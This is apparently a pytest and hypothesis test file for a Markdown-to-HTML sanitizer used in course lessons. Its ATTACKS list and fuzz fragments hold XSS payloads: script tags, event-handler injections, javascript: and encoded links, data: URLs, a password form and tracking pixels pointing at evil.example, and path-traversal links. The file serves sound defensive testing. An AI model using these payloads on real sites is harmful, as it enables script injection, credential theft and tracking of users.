"""Lesson Markdown becomes inert HTML: only allow-listed tags and attributes, safe URLs."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from content import render_markdown

BASE = "/media/road-safety/3/"
ALLOWED = {
    "h1": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(), "p": set(), "ul": set(),
    "ol": {"start"}, "li": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": {"align"}, "td": {"align"}, "blockquote": set(), "code": set(), "pre": set(), "em": set(),
    "strong": set(), "a": {"href", "title", "rel"}, "img": {"src", "alt", "title"}, "br": set(), "hr": set(),
}


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Collect()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED, f"<{tag}> survived: {html}"
        assert set(attrs) <= ALLOWED[tag], f"{tag} {attrs} survived: {html}"
        if tag == "a" and "href" in attrs:
            href = attrs["href"] or ""
            assert href.startswith(("https://", "http://", "mailto:", "#", BASE)), href
            assert attrs.get("rel") == "noopener noreferrer"
        if tag == "img":
            assert (attrs.get("src") or "").startswith(BASE), attrs
    # text may mention "javascript:" harmlessly; markup may not
    assert "<script" not in html.lower()


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="../media/a.png" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java&#115;cript:alert(1)">click</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="position:fixed;inset:0" onclick="steal()">overlay</div>',
    "<style>body{display:none}</style>",
    '<svg onload="alert(1)"><circle/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form action="https://evil.example"><input name=pw></form>',
    '<p title="x" onmouseover="alert(1)">hover</p>',
    '<a href="/admin/delete-everything">relative</a>',
    "![tracker](https://evil.example/pixel.gif)",
    '<img src="https://evil.example/pixel.gif">',
    f'<img src="{BASE}../../../secrets.png">',
    "<!-- <script>alert(1)</script> -->",
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_inert(attack):
    assert_inert(render_markdown(attack, media_base=BASE))


def test_script_content_is_dropped_not_shown():
    html = render_markdown("前<script>alert('x')</script>后", media_base=BASE)
    assert "alert" not in html and "前" in html and "后" in html


def test_event_handler_removed_but_image_kept():
    html = render_markdown('<img src="../media/a.png" alt="图" onerror="alert(1)">', media_base=BASE)
    assert elements(html) == [("img", {"src": BASE + "a.png", "alt": "图"})]
    assert "onerror" not in html


def test_media_images_are_rewritten_under_media_base():
    html = render_markdown("![头盔示意图](../media/头盔.png \"说明\") ![b](media/img/b.webp)", media_base=BASE)
    imgs = [attrs for tag, attrs in elements(html) if tag == "img"]
    assert imgs == [
        {"src": BASE + "%E5%A4%B4%E7%9B%94.png", "alt": "头盔示意图", "title": "说明"},
        {"src": BASE + "img/b.webp", "alt": "b"},
    ]


def test_remote_images_are_removed_leaving_their_alt_text():
    html = render_markdown("看图：![远程图片](https://example.com/a.png)", media_base=BASE)
    assert "img" not in html and "example.com" not in html
    assert "远程图片" in html


def test_without_media_base_no_media_url_is_produced():
    html = render_markdown("![图](../media/a.png) [讲义](../media/h.pdf)")
    assert "<img" not in html and "<a" not in html and "图" in html and "讲义" in html


def test_links_get_rel_and_keep_safe_targets():
    html = render_markdown("[法规](https://www.gov.cn/) [邮件](mailto:a@b.cn) [讲义](../media/h.pdf#page=2) [上](#top)",
                           media_base=BASE)
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in links] == ["https://www.gov.cn/", "mailto:a@b.cn", BASE + "h.pdf#page=2", "#top"]
    assert all(a["rel"] == "noopener noreferrer" for a in links)


def test_links_outside_media_become_plain_text():
    html = render_markdown("[配置](../course.toml) [上级](../../etc/passwd)", media_base=BASE)
    assert "<a" not in html and "配置" in html and "上级" in html


def test_tables_headings_lists_code_and_quotes_survive():
    md = """# 标题

| 项目 | 数量 |
|:-----|-----:|
| 头盔 | 1 |

1. 第一
2. 第二

> 引用

`code` 和 **粗体** *斜体*

```python
print("hi")
```

---
"""
    html = render_markdown(md, media_base=BASE)
    tags = [tag for tag, _ in elements(html)]
    for tag in ("h1", "table", "thead", "tbody", "th", "td", "ol", "li", "blockquote", "code", "pre", "strong",
                "em", "hr"):
        assert tag in tags, tag
    assert ("th", {"align": "right"}) in elements(html)
    assert "style" not in html and "class" not in html


def test_harmless_raw_html_is_kept():
    html = render_markdown("第一行<br>第二行 <strong>重点</strong>", media_base=BASE)
    assert "<br>" in html and "<strong>重点</strong>" in html


_fragments = st.sampled_from([
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:x'>", "</a>", "[t](",
    "javascript:alert(1)", ")", "![i](", "https://evil.example/x.png", "data:text/html,x", "<style>", "<svg onload=x>",
    "<iframe>", "\n\n", "`", "<", ">", "\"", "'", "&#106;avascript:", "media/a.png", "../media/b.png", "**", "<p ",
    "onclick=", "=", "<table><tr><td>", "<!--", "-->", " ", "文字",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(_fragments, max_size=30).map("".join))
def test_any_mix_of_attack_fragments_renders_inert(text):
    assert_inert(render_markdown(text, media_base=BASE))
